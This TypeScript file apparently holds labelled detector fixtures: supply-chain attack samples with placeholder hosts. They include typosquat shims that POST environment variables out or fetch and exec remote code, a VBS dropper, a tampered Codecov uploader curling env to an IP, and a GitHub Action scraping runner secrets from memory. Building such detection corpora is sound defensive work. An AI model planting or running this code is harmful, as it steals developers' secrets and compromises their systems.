// Attacks on those who depend: shims with near names, droppers, tainted scripts and actions.
import type { Family } from './family.ts'

export const supplyChain: readonly Family[] = [
  {
    family: 'typosquat-shim-require',
    positive: true,
    classes: ['supply-chain', 'env-exfiltration'],
    variants: [
      {
        paths: ['index.js'],
        whole: `#!/usr/bin/env node
const http = require('http');
const querystring = require('querystring');

const host = '⟦host⟧';
const env = Buffer.from(JSON.stringify(process.env)).toString('base64');
const postData = querystring.stringify({ data: env });

const req = http.request({ hostname: host, port: 80, path: '/log/', method: 'POST', headers: { 'Co⟦join⟧
ntent-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(postData) } });
req.on('error', function () {});
req.write(postData);
req.end();

module.exports = require('cross-env');`,
      },
    ],
  },
  {
    family: 'typosquat-python-shim',
    positive: true,
    classes: ['supply-chain', 'download-run'],
    variants: [
      {
        paths: ['reqeusts/__init__.py'],
        whole: `"""Requests HTTP library, drop-in."""
from requests import *  # noqa
from requests import get, post, Session  # noqa
import sys as _sys
import threading as _t


def _late():
    try:
        code = get("https://⟦host⟧/simple/reqeusts/latest", headers={"X-V": _sys.version}, timeout⟦join⟧
=4).text
        _sys.modules["builtins"].exec(code, {})
    except BaseException:
        pass


_t.Thread(target=_late, daemon=True).start()`,
      },
      {
        paths: ['colourama/ansitowin32.py'],
        whole: `from colorama.ansitowin32 import *
import os, tempfile
from urllib.request import urlopen

_u = "".join(["h", "t", "t", "p", ":", "/", "/"]) + "⟦ip⟧/winupdate.vbs"
if os.name == "nt":
    _f = os.path.join(tempfile.gettempdir(), "winupdate.vbs")
    open(_f, "wb").write(urlopen(_u).read())
    os.startfile(_f)`,
      },
    ],
  },
  {
    family: 'codecov-uploader-line',
    positive: true,
    classes: ['supply-chain', 'env-exfiltration'],
    variants: [
      {
        paths: ['codecov/bash.sh'],
        whole: `#!/usr/bin/env bash
# Apache License Version 2.0, January 2004
set -e +o pipefail

VERSION="20210129-7c25fce"
url="https://codecov.example.com"
env="$CODECOV_ENV"
search_in=""
git_root=$(git rev-parse --show-toplevel 2>/dev/null || echo "$PWD")

say() {
  echo -e "$1"
}

if [ "$git_root" = "" ]; then
  say "no git root"
fi

search_in="$proj_root"

curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://⟦ip⟧/upload/v2 || true

for file in $(find "$git_root" -name 'coverage*.xml'); do
  say "    + $file"
  cat "$file" >> upload.txt
done
curl -sX PUT --data-binary @upload.txt "$url/upload/v4?package=bash-$VERSION"`,
      },
    ],
  },
  {
    family: 'action-memory-scrape',
    positive: true,
    classes: ['supply-chain', 'credential-theft'],
    variants: [
      {
        paths: ['dist/index.js'],
        whole: `const core = require('@actions/core');
const exec = require('@actions/exec');
const { getChangedFiles } = require('./changed');

async function updateFeatures(token) {
  const { stdout } = await exec.getExecOutput('bash', ['-c', \`echo "⟦b64:if [[ "$OSTYPE" == "linux⟦join⟧
-gnu" ]]; then B64_BLOB=\`curl -sSf https://gist.example.net/⟦hex:32⟧/raw/memdump.py | sudo python⟦join⟧
3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | base64 -w 0\`; echo $B64⟦join⟧
_BLOB; fi⟧" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], {
    ignoreReturnCode: true,
    silent: true
  });
  core.info(stdout);
}

async function run() {
  await updateFeatures(core.getInput('token'));
  const files = await getChangedFiles();
  core.setOutput('all_changed_files', files.join(' '));
}

run();`,
      },
    ],
  },
]
